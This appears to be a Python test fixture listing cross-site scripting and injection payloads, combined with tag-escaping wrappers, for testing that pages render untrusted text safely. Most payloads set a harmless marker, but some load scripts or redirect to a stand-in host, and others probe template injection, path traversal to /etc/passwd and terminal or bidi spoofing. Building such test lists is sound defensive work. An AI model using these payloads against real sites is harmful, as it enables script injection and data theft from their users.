"""Texts that would do harm on a page that took them for anything but text."""

from __future__ import annotations

from typing import Final

_SCRIPTS: Final = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "<ScRiPt >window.hit=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=window.hit=1>",
    "<img/src=x/onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:window.hit=1'>x",
    "<body onload=window.hit=1>",
    "<iframe src=javascript:window.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=javascript:window.hit=1></object>",
    "<embed src=//evil.example/x.swf>",
    "<a href=javascript:window.hit=1>click</a>",
    "<form action=//evil.example><input name=q autofocus onfocus=window.hit=1></form>",
    "<button formaction=javascript:window.hit=1>go</button>",
    "<details open ontoggle=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<marquee onstart=window.hit=1>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "<?xml version='1.0'?><script>window.hit=1</script>",
    "javascript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${window.hit=1}`${window.hit=1}`",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\u202etxt.exe\u2066\u2069 \u200f",
    "\x00nul\x08back\x7fdel\x9bcsi",
    "../../../../etc/passwd",
)

# Ways out of a tag, an attribute or an element that a text might stand in.
_WRAPPERS: Final = ("{}", '">{}', "'>{}", "</pre></td></textarea></title>{}", "x {} x\r\n\u2028{}")

PAYLOADS: Final = tuple(wrapper.replace("{}", script) for wrapper in _WRAPPERS for script in _SCRIPTS)
